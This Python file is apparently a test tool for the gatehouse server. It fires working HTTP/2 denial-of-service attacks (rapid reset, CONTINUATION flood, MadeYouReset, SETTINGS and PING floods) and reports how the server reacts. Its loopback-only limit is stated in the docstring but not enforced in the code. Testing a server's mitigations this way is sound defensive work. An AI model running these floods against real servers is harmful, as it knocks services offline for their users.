#!/usr/bin/env python3
"""HTTP/2 abuse client: replays known HTTP/2 denial-of-service patterns against
a TLS server (ALPN h2) and reports, as one JSON line on stdout, what the server
did about it.

It is a test tool for gatehouse's integration tests, meant for servers on this
machine only (loopback).  Every frame is built with ``hyperframe`` and written
as raw bytes on the TLS socket after the connection preface and our SETTINGS:
the ``h2`` state machine is deliberately not used, because it refuses to send
the invalid sequences these attacks are made of.  Header blocks are HPACK
encoded with ``hpack`` using static-table references and never-indexed
literals only, so every block is stateless and can be reused on any stream and
any connection.

Attacks (``--attack``):

  rapid-reset         CVE-2023-44487.  HEADERS (a complete, authorised GET)
                      immediately followed by RST_STREAM(CANCEL), ``--count``
                      times, never waiting for a response; reconnects when the
                      server closes the connection.
  continuation-flood  CVE-2024-27316 family (also CVE-2024-27983,
                      CVE-2024-28182, ...).  HEADERS without END_HEADERS, then
                      CONTINUATION frames full of small literal headers,
                      without ever ending the header block.
  settings-flood      SETTINGS frames in a tight loop without reading the ACKs
                      (CVE-2019-9515 family).
  made-you-reset      CVE-2025-8671.  Valid requests followed by a frame that
                      makes the *server* reset the stream (WINDOW_UPDATE 0,
                      DATA after END_STREAM, DATA beyond content-length,
                      unknown pseudo-header); reconnects like rapid-reset.
  ping-flood          PING frames in a tight loop without reading the ACKs
                      (CVE-2019-9512).

Output (stdout, one line):
  {"attack": ..., "frames_sent": N, "goaway": null | {"error_code": N,
   "last_stream_id": N, ...}, "closed_by_server": bool, "seconds": S, ...}
plus details: connections, sent/received frame counts by type, RST_STREAM
codes received, whether our writes stalled (server stopped reading), ...
``frames_sent`` counts frames whose bytes were fully handed to TLS, across all
connections, including our SETTINGS/WINDOW_UPDATE/ACK frames.  ``goaway`` is
the first GOAWAY received.  A flood that does not read can miss a GOAWAY
that the server sends just before closing: a close with our bytes unread
resets the connection and drops what the server had not yet transmitted;
``--rcvbuf 4194304`` (a large receive window) makes that much less likely.

Exit status: 0 when the attack ran, whatever the server did; 1 when the first
TLS connection (with ALPN h2) could not be established; 2 for usage errors.
Everything is bounded in time: the attack stops at ``--seconds`` (plus at most
about two seconds to connect and to watch the server's reaction), all socket
I/O is non-blocking behind select() timeouts, and a watchdog timer ends the
run in any case.
"""

from __future__ import annotations

import argparse
import collections
import json
import select
import signal
import socket
import ssl
import struct
import sys
import time

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.exceptions import HyperframeError
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

FRAME_NAMES = {
    0x0: "DATA",
    0x1: "HEADERS",
    0x2: "PRIORITY",
    0x3: "RST_STREAM",
    0x4: "SETTINGS",
    0x5: "PUSH_PROMISE",
    0x6: "PING",
    0x7: "GOAWAY",
    0x8: "WINDOW_UPDATE",
    0x9: "CONTINUATION",
}

ERROR_NAMES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}

CANCEL = 0x8
MAX_WINDOW = 2**31 - 1

# SETTINGS identifiers (RFC 9113 section 6.5.2).
SETTINGS_HEADER_TABLE_SIZE = 0x1
SETTINGS_ENABLE_PUSH = 0x2
SETTINGS_INITIAL_WINDOW_SIZE = 0x4

# Our own SETTINGS: no push, and windows so large that the server never waits
# on flow control to send us anything (we read everything we can).
OUR_SETTINGS = {
    SETTINGS_HEADER_TABLE_SIZE: 4096,
    SETTINGS_ENABLE_PUSH: 0,
    SETTINGS_INITIAL_WINDOW_SIZE: MAX_WINDOW,
}

DEFAULT_COUNTS = {
    "rapid-reset": 20_000,  # HEADERS + RST_STREAM pairs
    "continuation-flood": 100_000,  # CONTINUATION frames
    "settings-flood": 100_000,  # SETTINGS frames
    "made-you-reset": 20_000,  # streams the server is provoked into resetting
    "ping-flood": 100_000,  # PING frames
}

CONNECT_TIMEOUT = 5.0  # TCP connect + TLS handshake, per connection
SETTINGS_WAIT = 2.0  # how long to wait for the server's first SETTINGS
STALL_SECONDS = 3.0  # no write progress for this long: server stopped reading
LINGER_SECONDS = 1.0  # after the attack: server quiet this long = done reacting
HIGH_WATER = 256 * 1024  # queued bytes above which we wait for the socket
TLS_RECORD = 16 * 1024  # bytes per SSL write (one TLS record)
BATCH = 32  # attack units queued between two non-blocking I/O passes


class SetupError(Exception):
    """The TLS/h2 connection could not be established."""


class Watchdog(Exception):
    """The hard time limit fired (should never happen: all I/O is bounded)."""


def now() -> float:
    return time.monotonic()


# --------------------------------------------------------------------------
# Run-wide statistics, aggregated over every connection the attack opens.
# --------------------------------------------------------------------------
class Stats:
    def __init__(self, attack: str, count: int, verbose: bool):
        self.attack = attack
        self.count = count
        self.verbose = verbose
        self.started = now()
        self.frames_sent = 0
        self.sent_by_type: collections.Counter[str] = collections.Counter()
        self.received_by_type: collections.Counter[str] = collections.Counter()
        self.rst_received: collections.Counter[str] = collections.Counter()
        self.goaway: dict | None = None
        self.goaways = 0
        self.closed_by_server = False
        self.send_stalled = False
        self.connections = 0
        self.units = 0  # attack units queued: streams (pairs) or flood frames
        self.errors: list[str] = []
        self.extra: dict = {}

    def log(self, msg: str) -> None:
        if self.verbose:
            print(f"[h2_abuse {now() - self.started:7.3f}s] {msg}", file=sys.stderr, flush=True)

    def error(self, msg: str) -> None:
        if len(self.errors) < 20 and msg not in self.errors:
            self.errors.append(msg)

    def report(self) -> dict:
        out = {
            "attack": self.attack,
            "frames_sent": self.frames_sent,
            "goaway": self.goaway,
            "closed_by_server": self.closed_by_server,
            "seconds": round(now() - self.started, 3),
            "connections": self.connections,
            "count": self.count,
            "units_queued": self.units,
            "send_stalled": self.send_stalled,
            "goaways": self.goaways,
            "sent_by_type": dict(sorted(self.sent_by_type.items())),
            "received_by_type": dict(sorted(self.received_by_type.items())),
            "rst_received": dict(sorted(self.rst_received.items())),
            "errors": self.errors,
        }
        out.update(self.extra)
        return out


# --------------------------------------------------------------------------
# One HTTP/2 connection driven by hand: raw frames out, raw frames in.
# --------------------------------------------------------------------------
class Conn:
    """A TLS connection speaking raw HTTP/2 frames.

    Outgoing frames are queued as bytes and written by non-blocking I/O
    passes (``pump``/``wait_below``/``flush``); a frame counts as sent once
    all its bytes were accepted by the TLS layer.  Incoming bytes are parsed
    into frames with hyperframe; the server's SETTINGS and PINGs are
    acknowledged (only when we read at all), GOAWAY, RST_STREAM and
    connection-level WINDOW_UPDATE are recorded.
    """

    def __init__(self, args: argparse.Namespace, stats: Stats, deadline: float):
        self.stats = stats
        self.index = stats.connections + 1
        self.out = bytearray()
        self.ends: collections.deque[tuple[int, str | None]] = collections.deque()
        self.queued_total = 0
        self.written_total = 0
        self.retry_len = 0  # length of a TLS write that must be retried as is
        self.inbuf = bytearray()
        self.closed = False
        self.closed_by_server = False
        self.stalled = False
        self.goaway: dict | None = None
        self.got_settings = False
        self.send_window = 65535  # connection-level window for our DATA
        self.next_stream_id = 1
        self.sent_here = 0
        self.last_progress = now()  # last time bytes were written
        self.last_rx = 0.0  # last time bytes were read

        timeout = max(0.1, min(CONNECT_TIMEOUT, deadline - now()))
        ctx = ssl.create_default_context(cafile=args.cafile)
        ctx.set_alpn_protocols(["h2"])
        server_name = args.server_name or args.host
        try:
            family, kind, proto, _, addr = socket.getaddrinfo(args.host, args.port, type=socket.SOCK_STREAM)[0]
            raw = socket.socket(family, kind, proto)
        except OSError as e:
            raise SetupError(f"connect {args.host}:{args.port}: {e}") from e
        try:
            if args.rcvbuf:
                # Set before connect() so that it sizes the advertised window.
                raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, args.rcvbuf)
            raw.settimeout(timeout)
            raw.connect(addr)
        except OSError as e:
            raw.close()
            raise SetupError(f"connect {args.host}:{args.port}: {e}") from e
        try:
            raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            self.sock = ctx.wrap_socket(raw, server_hostname=server_name)
        except (OSError, ssl.SSLError) as e:
            raw.close()
            raise SetupError(f"TLS handshake with {server_name}: {e}") from e
        alpn = self.sock.selected_alpn_protocol()
        if alpn != "h2":
            self.sock.close()
            raise SetupError(f"server did not negotiate ALPN h2 (got {alpn!r})")
        self.sock.setblocking(False)
        stats.connections += 1

        # Connection preface, our SETTINGS, and a connection window as large
        # as it gets.  Then wait for the server's SETTINGS (acknowledged by
        # the reader) so each attack starts on an established connection.
        self.queue_raw(PREFACE)
        self.send(SettingsFrame(0, settings=OUR_SETTINGS))
        self.send(WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65535))
        until = min(deadline, now() + SETTINGS_WAIT)
        while not self.got_settings and not self.closed and now() < until:
            self.io(min(0.05, max(0.0, until - now())))
        self.stats.log(
            f"conn #{self.index}: established (server SETTINGS {'received' if self.got_settings else 'NOT received'})"
        )

    # ---- queueing ----------------------------------------------------------
    def queue_raw(self, data: bytes, kind: str | None = None) -> None:
        self.out += data
        self.queued_total += len(data)
        self.ends.append((self.queued_total, kind))

    def send(self, frame: Frame) -> None:
        """Queue one frame (built by hyperframe) for writing."""
        self.queue_raw(frame.serialize(), FRAME_NAMES.get(frame.type, f"0x{frame.type:x}"))

    def new_stream_id(self) -> int:
        sid = self.next_stream_id
        self.next_stream_id += 2
        return sid

    @property
    def usable(self) -> bool:
        """Still worth sending on: open, not stalled, no GOAWAY received."""
        return not self.closed and not self.stalled and self.goaway is None

    # ---- I/O ---------------------------------------------------------------
    def io(self, timeout: float, read: bool = True, write: bool = True) -> None:
        """One select() pass: read what is there, write what can be written."""
        if self.closed:
            return
        want_w = write and bool(self.out)
        if not read and not want_w:
            return
        if read and self.sock.pending():
            timeout = 0.0  # TLS already holds decrypted bytes
        try:
            r, w, _ = select.select([self.sock] if read else [], [self.sock] if want_w else [], [], timeout)
        except (OSError, ValueError) as e:
            self._lost(f"select: {e}")
            return
        if read and (r or self.sock.pending()):
            self._read()
        if w and not self.closed:
            self._write()

    def pump(self, read: bool = True) -> None:
        """Non-blocking: move whatever bytes can move right now."""
        self.io(0.0, read=read)

    def wait_below(self, high: int, deadline: float, read: bool = True) -> None:
        """Block (bounded) until at most `high` bytes are queued.

        No write progress for STALL_SECONDS means the server stopped reading
        from us (back-pressure); that is recorded and ends the wait.
        """
        while len(self.out) > high and not self.closed and not self.stalled and now() < deadline:
            self.io(min(0.05, max(0.0, deadline - now())), read=read)
            if self.out and now() - self.last_progress > STALL_SECONDS:
                self.stalled = True
                self.stats.send_stalled = True
                self.stats.log(f"conn #{self.index}: writes stalled for {STALL_SECONDS}s, {len(self.out)} bytes queued")
                return

    def flush(self, deadline: float, read: bool = True) -> None:
        self.wait_below(0, deadline, read=read)

    def linger(self, idle: float, cap: float) -> None:
        """Only read, to see the server's reaction: until it closes, or sends
        nothing for `idle` seconds, or `cap` seconds have passed."""
        start = now()
        until = start + cap
        while not self.closed and now() < until and now() - max(start, self.last_rx) < idle:
            self.io(min(0.05, max(0.0, until - now())), read=True, write=False)

    def close(self) -> None:
        if not self.closed:
            self.closed = True
            try:
                self.sock.close()
            except OSError:
                pass
        self.stats.log(
            f"conn #{self.index}: done, frames sent {self.sent_here}, "
            f"closed by server {self.closed_by_server}, goaway {self.goaway}"
        )

    def _write(self) -> None:
        budget = 1 << 20  # bytes per pass, so reading is not starved
        while self.out and budget > 0:
            n_try = self.retry_len or min(len(self.out), TLS_RECORD)
            try:
                n = self.sock.send(bytes(self.out[:n_try]))
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError, InterruptedError):
                # OpenSSL wants the same write retried; remember its length.
                self.retry_len = n_try
                return
            except (OSError, ssl.SSLError) as e:
                self._lost(f"write: {e.__class__.__name__}: {e}")
                self._last_read()
                return
            self.retry_len = 0
            del self.out[:n]
            self.written_total += n
            budget -= n
            self.last_progress = now()
            while self.ends and self.ends[0][0] <= self.written_total:
                kind = self.ends.popleft()[1]
                if kind is not None:
                    self.sent_here += 1
                    self.stats.frames_sent += 1
                    self.stats.sent_by_type[kind] += 1

    def _read(self) -> None:
        got = 0
        while got < (1 << 20):  # bounded per pass, so writing is not starved
            try:
                data = self.sock.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError, InterruptedError):
                break
            except (OSError, ssl.SSLError) as e:
                self._parse()
                self._lost(f"read: {e.__class__.__name__}: {e}")
                return
            if not data:
                self._parse()
                self._lost("read: EOF")
                return
            self.inbuf += data
            got += len(data)
            self.last_rx = now()
        self._parse()

    def _last_read(self) -> None:
        """After a failed write, pick up whatever the server sent before it
        went away (typically a GOAWAY still sitting in the kernel buffer)."""
        until = now() + 1.0
        try:
            while now() < until and len(self.inbuf) < (64 << 20):
                data = self.sock.recv(65536)
                if not data:
                    break
                self.inbuf += data
        except (OSError, ssl.SSLError):
            pass  # nothing more (would block), or the reset finally won
        self._parse()

    def _lost(self, why: str) -> None:
        """The server closed or reset the connection."""
        if not self.closed:
            self.closed = True
            self.closed_by_server = True
            self.stats.closed_by_server = True
            self.stats.error(why)
            self.stats.log(f"conn #{self.index}: connection lost ({why})")

    # ---- incoming frames ---------------------------------------------------
    def _parse(self) -> None:
        while len(self.inbuf) >= 9:
            try:
                frame, length = Frame.parse_frame_header(memoryview(bytes(self.inbuf[:9])))
            except HyperframeError as e:
                self.stats.error(f"unparseable frame header from server: {e}")
                self.inbuf.clear()
                return
            if len(self.inbuf) < 9 + length:
                return
            body = bytes(self.inbuf[9 : 9 + length])
            del self.inbuf[: 9 + length]
            try:
                frame.parse_body(memoryview(body))
            except HyperframeError as e:
                self.stats.error(f"unparseable {FRAME_NAMES.get(frame.type, frame.type)} frame from server: {e}")
                continue
            self._on_frame(frame)

    def _on_frame(self, frame: Frame) -> None:
        name = FRAME_NAMES.get(frame.type, f"0x{frame.type:x}")
        if "ACK" in frame.flags and frame.type in (0x4, 0x6):
            name += "_ACK"
        self.stats.received_by_type[name] += 1

        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.got_settings = True
            if not self.closed:
                self.send(SettingsFrame(0, flags=["ACK"]))
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            if not self.closed:
                self.send(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]))
        elif isinstance(frame, WindowUpdateFrame) and frame.stream_id == 0:
            self.send_window += frame.window_increment
        elif isinstance(frame, RstStreamFrame):
            self.stats.rst_received[ERROR_NAMES.get(frame.error_code, str(frame.error_code))] += 1
        elif isinstance(frame, GoAwayFrame):
            info = {
                "error_code": frame.error_code,
                "error_name": ERROR_NAMES.get(frame.error_code, "UNKNOWN"),
                "last_stream_id": frame.last_stream_id,
                "debug_data": frame.additional_data.decode("utf-8", "replace")[:200],
            }
            self.stats.log(f"conn #{self.index}: GOAWAY {info}")
            if self.goaway is None:
                self.goaway = info
            if self.stats.goaway is None:
                self.stats.goaway = info
            self.stats.goaways += 1


# --------------------------------------------------------------------------
# Header blocks.
# --------------------------------------------------------------------------
def encode_block(headers: list[tuple[str, str]]) -> bytes:
    """HPACK-encode statelessly: static-table hits are indexed, everything
    else is a never-indexed literal, so the server's dynamic table never
    changes and the block can be replayed on any stream or connection."""
    return Encoder().encode([NeverIndexedHeaderTuple(n, v) for n, v in headers])


def request_headers(args: argparse.Namespace, method: str = "GET") -> list[tuple[str, str]]:
    authority = args.authority or f"{args.server_name or args.host}:{args.port}"
    headers = [
        (":method", method),
        (":scheme", "https"),
        (":authority", authority),
        (":path", args.path),
        ("user-agent", "gatehouse-h2-abuse"),
    ]
    if args.token:
        headers.append(("authorization", f"Bearer {args.token}"))
    return headers


def literal_headers_block(n_headers: int, value_len: int = 16) -> bytes:
    """A header-block fragment of `n_headers` small "literal header field
    without indexing, new name" entries (RFC 7541 section 6.2.2), written by
    hand: first byte 0x00, then name and value as raw (non-Huffman) strings."""
    out = bytearray()
    for i in range(n_headers):
        name = b"x-flood-%04d" % i
        value = b"v" * value_len
        out += b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
    return bytes(out)


# --------------------------------------------------------------------------
# Attacks.
# --------------------------------------------------------------------------
def final_linger_cap(deadline: float) -> float:
    """After the attack: watch the server until it goes quiet, for the rest
    of the time budget but at least LINGER_SECONDS."""
    return max(LINGER_SECONDS, deadline - now())


def open_conn(args: argparse.Namespace, stats: Stats, deadline: float) -> Conn | None:
    """Connect; a failure is fatal for the first connection only."""
    try:
        return Conn(args, stats, deadline)
    except SetupError as e:
        if stats.connections == 0:
            raise
        stats.error(f"reconnect failed: {e}")
        stats.log(f"reconnect failed: {e}")
        return None


def stream_attack(args: argparse.Namespace, stats: Stats, deadline: float, one_stream) -> None:
    """Shared driver of the per-stream attacks (rapid-reset, made-you-reset).

    Queues `one_stream(conn)` (the frames of one abusive stream) as fast as
    possible, doing a non-blocking read/write pass every BATCH streams so the
    server's responses never fill the TCP window and stall the connection.
    When the server sends GOAWAY or closes, a new connection takes over,
    until --count streams were sent or --seconds ran out.
    """
    while stats.units < stats.count and now() < deadline:
        conn = open_conn(args, stats, deadline)
        if conn is None:
            return
        if not conn.usable:
            # Closed or GOAWAY before we sent anything: back off a little
            # rather than spin on reconnects.
            time.sleep(min(0.1, max(0.0, deadline - now())))
        while stats.units < stats.count and conn.usable and now() < deadline:
            for _ in range(min(BATCH, stats.count - stats.units)):
                one_stream(conn)
                stats.units += 1
            conn.pump()
            conn.wait_below(HIGH_WATER, deadline)
        conn.flush(deadline)
        if conn.stalled:
            conn.linger(LINGER_SECONDS, final_linger_cap(deadline))
            conn.close()
            return
        if stats.units < stats.count and now() < deadline:
            # The server gave up on this connection (GOAWAY/close): let it
            # finish, then start over on a fresh one, as an attacker would.
            conn.linger(0.5, min(0.5, max(0.0, deadline - now())))
            conn.close()
            continue
        conn.linger(LINGER_SECONDS, final_linger_cap(deadline))
        conn.close()


def attack_rapid_reset(args: argparse.Namespace, stats: Stats, deadline: float) -> None:
    """CVE-2023-44487 "Rapid Reset".

    Each stream is a complete, authorised GET (HEADERS with END_HEADERS and
    END_STREAM) cancelled at once by RST_STREAM(CANCEL).  Cancelled streams
    do not count against SETTINGS_MAX_CONCURRENT_STREAMS, so a server that
    starts work (routing, auth, an upstream request) for each of them before
    noticing the reset can be made to do unbounded work on one connection.
    Mitigated servers count the resets and answer GOAWAY (usually
    ENHANCE_YOUR_CALM) and close.
    """
    block = encode_block(request_headers(args))

    def one_stream(conn: Conn) -> None:
        sid = conn.new_stream_id()
        conn.send(HeadersFrame(sid, data=block, flags=["END_HEADERS", "END_STREAM"]))
        conn.send(RstStreamFrame(sid, error_code=CANCEL))

    stream_attack(args, stats, deadline, one_stream)


MYR_VARIANTS = ("window-update-zero", "data-after-end-stream", "content-length", "bad-pseudo-header")


def attack_made_you_reset(args: argparse.Namespace, stats: Stats, deadline: float) -> None:
    """CVE-2025-8671 "MadeYouReset".

    Like rapid reset, but the client never sends RST_STREAM itself: each
    stream starts as a valid request and is followed by a frame that obliges
    the server to reset the stream with a stream error.  Servers that
    mitigated rapid reset by counting the *client's* RST_STREAMs miss this,
    while the backend work for the request may go on.  Variants (rotated
    round-robin with --variant mixed):

      window-update-zero     GET + WINDOW_UPDATE(stream, increment 0)
                             (RFC 9113 6.9: stream error PROTOCOL_ERROR)
      data-after-end-stream  GET with END_STREAM + DATA on the same stream
                             (half-closed (remote): STREAM_CLOSED)
      content-length         POST with content-length: 0 + 1 byte of DATA
                             (RFC 9113 8.1.1: malformed, PROTOCOL_ERROR);
                             content-length: 1 + empty DATA when our
                             connection send window is used up
      bad-pseudo-header      GET carrying an unknown pseudo-header
                             (RFC 9113 8.3: malformed, PROTOCOL_ERROR)
    """
    get_block = encode_block(request_headers(args))
    post_cl0 = encode_block(request_headers(args, "POST") + [("content-length", "0")])
    post_cl1 = encode_block(request_headers(args, "POST") + [("content-length", "1")])
    bad_block = encode_block(request_headers(args) + [(":gatehouse-bogus", "1")])
    variants = MYR_VARIANTS if args.variant == "mixed" else (args.variant,)
    per_variant: collections.Counter[str] = collections.Counter()
    stats.extra["variants"] = per_variant

    def one_stream(conn: Conn) -> None:
        variant = variants[stats.units % len(variants)]
        per_variant[variant] += 1
        sid = conn.new_stream_id()
        if variant == "window-update-zero":
            conn.send(HeadersFrame(sid, data=get_block, flags=["END_HEADERS", "END_STREAM"]))
            conn.send(WindowUpdateFrame(sid, window_increment=0))
        elif variant == "data-after-end-stream":
            conn.send(HeadersFrame(sid, data=get_block, flags=["END_HEADERS", "END_STREAM"]))
            payload = b"x" if conn.send_window >= 1 else b""
            conn.send_window -= len(payload)
            conn.send(DataFrame(sid, data=payload))
        elif variant == "content-length":
            if conn.send_window >= 1:
                conn.send(HeadersFrame(sid, data=post_cl0, flags=["END_HEADERS"]))
                conn.send_window -= 1
                conn.send(DataFrame(sid, data=b"x", flags=["END_STREAM"]))
            else:
                conn.send(HeadersFrame(sid, data=post_cl1, flags=["END_HEADERS"]))
                conn.send(DataFrame(sid, data=b"", flags=["END_STREAM"]))
        else:  # bad-pseudo-header
            conn.send(HeadersFrame(sid, data=bad_block, flags=["END_HEADERS", "END_STREAM"]))

    stream_attack(args, stats, deadline, one_stream)
    stats.extra["variants"] = dict(per_variant)


def attack_continuation_flood(args: argparse.Namespace, stats: Stats, deadline: float) -> None:
    """CVE-2024-27316 "CONTINUATION flood" family.

    HEADERS (a valid GET) without END_HEADERS opens a header block that we
    never close: CONTINUATION frames follow, each carrying ~1 KiB of small
    literal headers, up to --count frames.  A server that buffers or decodes
    the block without a limit runs out of memory or CPU; a mitigated one
    stops early (GOAWAY, usually ENHANCE_YOUR_CALM / PROTOCOL_ERROR /
    COMPRESSION_ERROR, or just a close).  We read after every batch so a
    GOAWAY is caught before the server closes.
    """
    conn = open_conn(args, stats, deadline)
    assert conn is not None
    sid = conn.new_stream_id()
    conn.send(HeadersFrame(sid, data=encode_block(request_headers(args)), flags=["END_STREAM"]))
    junk = literal_headers_block(32)
    stats.extra["continuation_payload_bytes"] = len(junk)
    while stats.units < stats.count and conn.usable and now() < deadline:
        for _ in range(min(BATCH, stats.count - stats.units)):
            conn.send(ContinuationFrame(sid, data=junk))
            stats.units += 1
        conn.pump()
        conn.wait_below(HIGH_WATER, deadline)
    conn.flush(deadline)
    conn.linger(LINGER_SECONDS, final_linger_cap(deadline))
    conn.close()
    stats.extra["continuation_frames_sent"] = stats.sent_by_type["CONTINUATION"]


def control_flood(args: argparse.Namespace, stats: Stats, deadline: float, make_frame) -> None:
    """Shared driver of the SETTINGS/PING floods.

    After the handshake, reading stops (unless --read-every N asks for a
    non-blocking read every N frames): every frame obliges the server to
    queue an ACK that we do not take, so a server that does not bound its
    output queue grows it without limit.  A server that stops reading from
    us instead shows up as send_stalled; one that gives up sends GOAWAY or
    closes.  Finally we read for a moment to collect ACKs and any GOAWAY.
    """
    conn = open_conn(args, stats, deadline)
    assert conn is not None
    read_every = args.read_every
    since_read = 0
    while stats.units < stats.count and conn.usable and now() < deadline:
        n = min(BATCH, stats.count - stats.units)
        for _ in range(n):
            conn.send(make_frame(stats.units))
            stats.units += 1
        since_read += n
        do_read = read_every > 0 and since_read >= read_every
        if do_read:
            since_read = 0
        conn.pump(read=do_read)
        conn.wait_below(HIGH_WATER, deadline, read=False)
    conn.flush(deadline, read=False)
    conn.linger(LINGER_SECONDS, final_linger_cap(deadline))
    conn.close()


def attack_settings_flood(args: argparse.Namespace, stats: Stats, deadline: float) -> None:
    """SETTINGS flood (CVE-2019-9515 family): each SETTINGS frame restates
    our (unchanged) settings and must be acknowledged by the server."""
    frame = SettingsFrame(0, settings=OUR_SETTINGS)
    control_flood(args, stats, deadline, lambda i: frame)


def attack_ping_flood(args: argparse.Namespace, stats: Stats, deadline: float) -> None:
    """PING flood (CVE-2019-9512): every PING must be answered by a PING ACK."""
    control_flood(args, stats, deadline, lambda i: PingFrame(0, opaque_data=struct.pack(">Q", i)))


ATTACKS = {
    "rapid-reset": attack_rapid_reset,
    "continuation-flood": attack_continuation_flood,
    "settings-flood": attack_settings_flood,
    "made-you-reset": attack_made_you_reset,
    "ping-flood": attack_ping_flood,
}


# --------------------------------------------------------------------------
# Command line.
# --------------------------------------------------------------------------
def parse_args(argv: list[str]) -> argparse.Namespace:
    p = argparse.ArgumentParser(
        description="Run one HTTP/2 abuse pattern against a local TLS server and print a JSON report."
    )
    p.add_argument("--host", required=True, help="server address (loopback only)")
    p.add_argument("--port", required=True, type=int)
    p.add_argument("--cafile", required=True, help="PEM CA bundle that verifies the server certificate")
    p.add_argument("--token", default="", help="bearer token sent as 'authorization: Bearer TOKEN'")
    p.add_argument("--path", default="/", help=":path of the requests (default /)")
    p.add_argument("--attack", required=True, choices=sorted(ATTACKS))
    p.add_argument(
        "--count", type=int, help="attack units: " + ", ".join(f"{k} {v}" for k, v in DEFAULT_COUNTS.items())
    )
    p.add_argument("--seconds", type=float, default=10.0, help="time limit for the attack (default 10)")
    p.add_argument("--server-name", help="TLS server name / certificate name to verify (default: --host)")
    p.add_argument("--authority", help=":authority of the requests (default: server name:port)")
    p.add_argument(
        "--variant",
        default="mixed",
        choices=("mixed",) + MYR_VARIANTS,
        help="made-you-reset trigger (default: mixed, round-robin)",
    )
    p.add_argument(
        "--read-every",
        type=int,
        default=0,
        help="settings-flood/ping-flood: read (non-blocking) every N frames; 0 = never during the flood (default)",
    )
    p.add_argument(
        "--rcvbuf",
        type=int,
        default=0,
        help="SO_RCVBUF in bytes (default: kernel default). A large one lets a non-reading flood still "
        "catch a GOAWAY that the server sends just before closing with our data unread: such a close "
        "resets the connection and the server's kernel drops whatever it has not yet transmitted",
    )
    p.add_argument("-v", "--verbose", action="store_true", help="log progress to stderr")
    args = p.parse_args(argv)
    if args.count is None:
        args.count = DEFAULT_COUNTS[args.attack]
    if args.count < 1 or args.seconds <= 0 or not (0 < args.port < 65536) or args.read_every < 0 or args.rcvbuf < 0:
        p.error("--count and --seconds must be positive, --port in 1..65535, --read-every and --rcvbuf >= 0")
    if not args.path.startswith("/"):
        p.error("--path must start with /")
    return args


def main(argv: list[str]) -> int:
    args = parse_args(argv)
    stats = Stats(args.attack, args.count, args.verbose)
    deadline = now() + args.seconds

    # Hard stop, whatever happens: the attack deadline plus connect/linger
    # allowances plus a margin.
    def on_alarm(signum, frame):
        raise Watchdog()

    signal.signal(signal.SIGALRM, on_alarm)
    signal.setitimer(signal.ITIMER_REAL, args.seconds + CONNECT_TIMEOUT + LINGER_SECONDS + 10)

    rc = 0
    try:
        ATTACKS[args.attack](args, stats, deadline)
    except SetupError as e:
        stats.error(str(e))
        print(f"h2_abuse: {e}", file=sys.stderr)
        rc = 1
    except Watchdog:
        stats.error("watchdog: hard time limit reached")
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)

    report = stats.report()
    if rc:
        report["error"] = stats.errors[-1]
    print(json.dumps(report), flush=True)
    return rc


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
